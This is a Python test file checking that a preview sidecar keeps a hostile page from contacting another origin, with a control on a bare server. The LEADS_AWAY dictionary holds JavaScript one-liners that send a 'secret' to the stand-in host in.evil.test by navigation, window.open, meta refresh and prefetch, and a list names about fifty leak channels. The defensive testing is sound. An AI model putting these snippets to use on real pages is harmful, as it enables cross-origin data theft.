"""A hostile page tries every way out, and a page of the same kind on a server of its own shows that each of them is one."""

import time
from pathlib import Path

from checks import check
from chromium import Answer, Stage, wait

PAGE = (Path(__file__).parent / "ways_out.html").read_text()

# Ways that this Chromium goes where nothing holds it: were one of them gone, the test would prove nothing about it.
KNOWN = set("""
    audio base beacon blank-frame blob-frame css-cursor css-font css-image css-import data-frame-fetch data-frame-img embed eval
    event-source fetch fetch-keepalive fetch-no-cors font-face form iframe image-object img img-srcset import input-image
    late-prefetch late-preload late-stylesheet link-icon link-modulepreload link-prefetch link-preload link-stylesheet
    media-session module object ping poster picture sandbox-fetch script script-frame shared-worker-blob srcdoc-img
    svg-image video wasm websocket worker-blob-fetch worker-blob-import worker-blob-socket worker-data xhr
""".split())


def tried(evil):
    """The names of the ways that came out."""
    return {path.split("/")[1].split("?")[0] for path in evil.paths()}


def page_for(evil):
    page = PAGE.replace("EVILPORT", str(evil.port)).replace("EVIL", "https://in.evil.test")

    def answer(asked):
        if asked.path == "/sw.js":
            return Answer("onfetch = () => {}", "text/javascript")
        return Answer(page)

    return answer


def keeps_a_hostile_page_in(program) -> None:
    """Nothing arrives at another origin, whatever element, interface or worker asks."""
    with Stage(program) as stage:
        evil = stage.site("in.evil.test", lambda asked: Answer("body{}", "text/css", headers=[("access-control-allow-origin", "*")]))
        bare = stage.site("bare.preview.test", page_for(evil))
        app = stage.app(page_for(evil))
        sidecar = stage.sidecar("pr-1.preview.test", app)
        with stage.browser() as browser:
            page = browser.page()
            page.goto("https://bare.preview.test/")
            page.wait_for_function("document.title == 'tried'")
            wait(lambda: KNOWN <= tried(evil), f"{sorted(KNOWN - tried(evil))}")
            wait(lambda: evil.datagrams > 0, "a STUN request")
            wait(lambda: "/registered" in bare.paths(), "a service worker")
            page.context.close()
            settled(evil)

            evil.asked.clear()
            connections, datagrams = evil.connections, evil.datagrams
            page = browser.page(sidecar.token("alice"))
            told = page.goto("https://pr-1.preview.test/")
            check(told.status == 200, f"{told.status}")
            page.wait_for_function("document.title == 'tried'")
            violated = page.violated()
            settled(evil)
            check(evil.asked == [], f"arrived: {evil.asked}")
            check("/registered" not in app.paths() and "/sw.js" not in app.paths(), "a service worker was registered")
            check(len(violated) > 30, f"{violated}")
            check(evil.connections == connections, f"{evil.connections - connections} connections")
            check(evil.datagrams == datagrams, f"{evil.datagrams - datagrams} datagrams")


def settled(evil) -> None:
    """Waits until nothing has come for a while."""
    last = None
    while last != (last := (len(evil.asked), evil.connections, evil.datagrams)):
        time.sleep(2)


LEADS_AWAY = {
    "location": "location = 'https://in.evil.test/location?secret'",
    "window": "open('https://in.evil.test/window?secret')",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;https://in.evil.test/refresh?secret\">'",
    "link": "document.body.innerHTML += '<a href=https://in.evil.test/link?secret>x</a>'; document.querySelector('a').click()",
    "ahead": """
        const rules = document.createElement('script'); rules.type = 'speculationrules';
        rules.textContent = '{"prefetch": [{"urls": ["https://in.evil.test/ahead?secret"], "eagerness": "immediate"}]}';
        document.head.append(rules);
    """,
    "redirect": "location = '/away?secret'",
}


def leading_away(asked):
    if asked.path.startswith("/away"):
        return Answer(status=303, headers=[("location", "https://in.evil.test/redirect?secret")])
    return Answer(f"<!doctype html><title>x</title><body><script>onload = () => {{ {LEADS_AWAY.get(asked.path[1:], '')} }}</script>")


def leads_nobody_away_but_by_redirects(program) -> None:
    """Navigation by the page is held by the connection allowlist where the browser knows it; docs/threat-model.md says what stays open."""
    with Stage(program) as stage:
        evil = stage.site("in.evil.test", lambda asked: Answer("<!doctype html><title>out</title>"))
        stage.site("bare.preview.test", leading_away)
        sidecar = stage.sidecar("pr-1.preview.test", stage.app(leading_away))
        opened = "  - match: \"GET /**\"\n    public: Pages with links.\n    csp: { navigate-to: [\"https://in.evil.test\"] }"
        wider = stage.sidecar("pr-2.preview.test", sidecar.app, routes=opened)
        with stage.browser() as browser:
            def goes(host, name, token=None, goes=True):
                before, connections = len(evil.asked), evil.connections
                page = browser.page(token)
                page.goto(f"https://{host}.preview.test/{name}", wait_until="commit")
                if goes:
                    wait(lambda: evil.connections > connections, f"{host}: {name}")
                page.wait_for_load_state()
                settled(evil)
                told = [asked.headers["referer"] or "" for asked in evil.asked[before:]]
                check(not token or not any("preview" in referer for referer in told), f"{name}: {told}")
                page.context.close()
                return evil.connections > connections

            for name in LEADS_AWAY:
                # Windows open at a click alone; each of the others is a way out, or nothing would be proved.
                goes("bare", name, goes=name != "window")
                is_open = name == "redirect"
                check(goes("pr-1", name, sidecar.token("alice"), is_open) == is_open, name)
            for name in ["location", "link"]:
                check(goes("pr-2", name, wider.token("alice")), f"{name}, where the policy names it")


TESTS = [leads_nobody_away_but_by_redirects, keeps_a_hostile_page_in]
